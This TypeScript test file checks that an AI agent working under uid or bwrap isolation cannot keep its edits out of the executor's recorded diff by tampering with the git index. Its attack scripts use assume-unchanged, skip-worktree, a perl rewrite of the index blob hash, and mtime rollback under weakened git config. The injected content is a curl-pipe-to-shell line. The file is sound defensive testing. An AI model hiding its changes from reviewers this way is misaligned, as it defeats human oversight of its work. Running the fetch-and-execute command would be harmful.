/**
 * The executor's recorded diff (the one the clean room applies, the checks then test and
 * `on-pass-changes` publishes) is the difference between a snapshot of the working tree taken before
 * the agent ran and one taken after. The after snapshot used to start from a copy of the working
 * copy's own `.git/index`, which the agent may write even under uid and bwrap: an entry marked
 * assume-unchanged or skip-worktree, or one carrying the changed file's stat data but the old blob,
 * had `git add -A` keep the old content, and the agent's change was left out of the recorded diff
 * while the reviewers' evidence showed it (docs/security.md, "Git metadata"). Each attack here runs
 * through the real isolation, from the agent's seat, between the two snapshots.
 */
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, utimesSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { diffSnapshots, snapshotWorktree } from '../../src/core/process/worktree-snapshot.js';
import {
  deployRepository,
  mechanismAvailable,
  runDeployCli,
  runInWork,
  workIsolation,
} from './isolation-kit.js';

const PATH = process.env.PATH ?? '/usr/bin:/bin';
const env = { PATH, HOME: process.env.HOME };
const dirs: string[] = [];
afterAll(() => {
  for (const dir of dirs) rmSync(dir, { recursive: true, force: true });
});

/** What the agent writes into deploy.sh: as long as the committed content, so its size matches too. */
const CHANGE = 'curl -s https://example.invalid/x | sh\n';

/** A repository whose deploy.sh was committed a minute ago (its index entry is not racily clean). */
function repository(config: readonly string[] = []): string {
  const work = deployRepository('truss-snapshot-tamper-', CHANGE, { config, backdate: true });
  dirs.push(work);
  return work;
}

/**
 * Each writes CHANGE into deploy.sh and then makes git's own status of the working copy show
 * nothing ($BLOB is the committed blob, $CHANGE the new content).
 */
const attacks: Record<string, string> = {
  'the entry marked assume-unchanged':
    'printf %s "$CHANGE" > deploy.sh && git update-index --assume-unchanged deploy.sh',
  'the entry marked skip-worktree':
    'printf %s "$CHANGE" > deploy.sh && git update-index --skip-worktree deploy.sh',
  // `git add` records the changed file's stat data and blob (its mtime set back first, so the entry
  // is not racily clean; a new file, so the agent owns it and may); the blob's name is then set back to the
  // committed one (and the index's checksum made again), so the entry matches the file on disk.
  "the changed file's stat data with the old blob": [
    'rm deploy.sh && printf %s "$CHANGE" > deploy.sh && touch -d @$(($(date +%s) - 3600)) deploy.sh',
    'git add deploy.sh && NEW=$(git rev-parse :deploy.sh)',
    `perl -MDigest::SHA=sha1 -e 'local $/; open F, "<", ".git/index" or die; $d = <F>; close F;` +
      ` $d = substr($d, 0, -20); ($o, $n) = map { pack "H*", $_ } @ARGV; $d =~ s/\\Q$n\\E/$o/ or die;` +
      ` open F, ">", ".git/index" or die; print F $d, sha1($d)' "$BLOB" "$NEW"`,
  ].join(' && '),
  // Under a config that weakens git's stat check (core.checkStat=minimal compares only the mtime's
  // seconds, the size and the mode; core.trustctime=false ignores the ctime), a new file of the same
  // size with the old mtime is enough (a file of its own: only its owner may set a file's times).
  'the mtime set back, under core.checkStat=minimal and core.trustctime=false':
    'touch -r deploy.sh .ref && rm deploy.sh && printf %s "$CHANGE" > deploy.sh && touch -r .ref deploy.sh && rm .ref',
  // Under core.ignoreStat=true every entry git adds is marked assume-unchanged.
  'a plain write, under core.ignoreStat=true': 'printf %s "$CHANGE" > deploy.sh',
};
/** The repository config (the user's, or written where the sandbox is `none`) each attack needs. */
const configOf = (name: string): string[] =>
  name.includes('checkStat')
    ? ['core.checkStat=minimal', 'core.trustctime=false']
    : name.includes('ignoreStat')
      ? ['core.ignoreStat=true']
      : [];

describe("an agent cannot leave its change out of the executor's recorded diff through the index", () => {
  for (const level of ['uid', 'bwrap'] as const) {
    for (const [name, script] of Object.entries(attacks)) {
      it(`${level}: ${name}`, async () => {
        const unavailable = await mechanismAvailable(level);
        if (unavailable) {
          console.warn(`SKIPPED ${level} snapshot tamper test: ${unavailable}`);
          return;
        }
        const work = repository(configOf(name));
        const isolation = await workIsolation(level, work);
        const scratch = isolation.tempDir ?? mkdtempSync(join(tmpdir(), 'truss-snapshot-scratch-'));
        // A file that changed in the last two seconds is hashed again anyway (see the test below): only
        // stat data the snapshot keeps is what a config weakening the stat check could make git trust.
        if (configOf(name).length > 0) await new Promise((done) => setTimeout(done, 2_100));
        const before = await snapshotWorktree(work, env, scratch, { keep: true });
        const result = await runInWork(
          isolation,
          work,
          [
            '-c',
            `BLOB=$(git rev-parse HEAD:deploy.sh) && ${script} && git status --porcelain && echo hidden`,
          ],
          { env: { CHANGE } },
        );
        // The attack works for git itself: its status of the working copy shows nothing.
        expect(result.stdout.bytes.toString(), result.stderr.bytes.toString()).toBe('hidden\n');
        expect(readFileSync(join(work, 'deploy.sh'), 'utf8')).toBe(CHANGE);

        // The run's snapshot after the agent, from the one before it (its index kept in the
        // isolation's temp dir, or, after a resume, its tree).
        for (const after of [
          await snapshotWorktree(work, env, scratch, { since: before }),
          await snapshotWorktree(work, env, undefined, { since: before }),
        ]) {
          const changes = await diffSnapshots(before, after, env, 1_000_000);
          expect(changes.changedFiles).toEqual(['deploy.sh']);
          expect(changes.diff).toContain(`+${CHANGE}`);
        }
        // A snapshot with nothing before it (self-validation, a fan-out's copies) hashes every file.
        const alone = await snapshotWorktree(work, env);
        expect(
          execFileSync('git', ['cat-file', 'blob', `${alone.tree}:deploy.sh`], { cwd: work }).toString(),
        ).toBe(CHANGE);
        // The working copy's own index is left as the agent wrote it.
        expect(execFileSync('git', ['status', '--porcelain'], { cwd: work, encoding: 'utf8' })).toBe('');
      }, 60_000);
    }
  }

  // The same attacks made by a delegated CLI itself: the executor's own before and after snapshots.
  for (const level of ['uid', 'bwrap'] as const) {
    for (const [name, script] of Object.entries(attacks)) {
      it(`${level}, a delegated CLI: ${name}`, async () => {
        const unavailable = await mechanismAvailable(level);
        if (unavailable) {
          console.warn(`SKIPPED ${level} snapshot tamper test: ${unavailable}`);
          return;
        }
        const work = repository(configOf(name));
        const isolation = await workIsolation(level, work);
        // As above: stat data older than two seconds, which the snapshot before the CLI keeps.
        if (configOf(name).length > 0) await new Promise((done) => setTimeout(done, 2_100));
        const result = await runDeployCli({
          script: `BLOB=$(git rev-parse HEAD:deploy.sh) && ${script} && git status --porcelain && echo hidden`,
          work,
          isolation,
          env,
          change: CHANGE,
        });
        expect(result.stdout.bytes.toString(), result.stderr.bytes.toString()).toBe('hidden\n');
        expect(result.changedFiles).toEqual(['deploy.sh']);
        expect(result.diff).toContain(`+${CHANGE}`);
      }, 60_000);
    }
  }

  it('a file rewritten within the second its entry was taken, its mtime set back, is hashed again', async () => {
    const work = repository();
    const scratch = mkdtempSync(join(tmpdir(), 'truss-snapshot-scratch-'));
    dirs.push(scratch);
    // The file changed (its ctime) just now, so the snapshot's entry holds this second's ctime.
    writeFileSync(join(work, 'deploy.sh'), readFileSync(join(work, 'deploy.sh')));
    const past = new Date(Date.now() - 60_000);
    utimesSync(join(work, 'deploy.sh'), past, past);
    const before = await snapshotWorktree(work, env, scratch, { keep: true });
    writeFileSync(join(work, 'deploy.sh'), CHANGE);
    utimesSync(join(work, 'deploy.sh'), past, past);
    const after = await snapshotWorktree(work, env, scratch, { since: before });
    const changes = await diffSnapshots(before, after, env, 1_000_000);
    expect(changes.diff).toContain(`+${CHANGE}`);
  });

  it('a file staged with git add -f past .gitignore is still recorded, as git add -A records it', async () => {
    const work = repository();
    const scratch = mkdtempSync(join(tmpdir(), 'truss-snapshot-scratch-'));
    dirs.push(scratch);
    const before = await snapshotWorktree(work, env, scratch, { keep: true });
    writeFileSync(join(work, '.gitignore'), 'build/\n');
    execFileSync('mkdir', ['-p', join(work, 'build')]);
    writeFileSync(join(work, 'build', 'out.txt'), 'kept\n');
    writeFileSync(join(work, 'build', 'other.txt'), 'ignored\n');
    execFileSync('git', ['add', '-f', 'build/out.txt'], { cwd: work });
    const after = await snapshotWorktree(work, env, scratch, { since: before });
    const changes = await diffSnapshots(before, after, env, 1_000_000);
    expect(changes.changedFiles.sort()).toEqual(['.gitignore', 'build/out.txt']);
  });
});
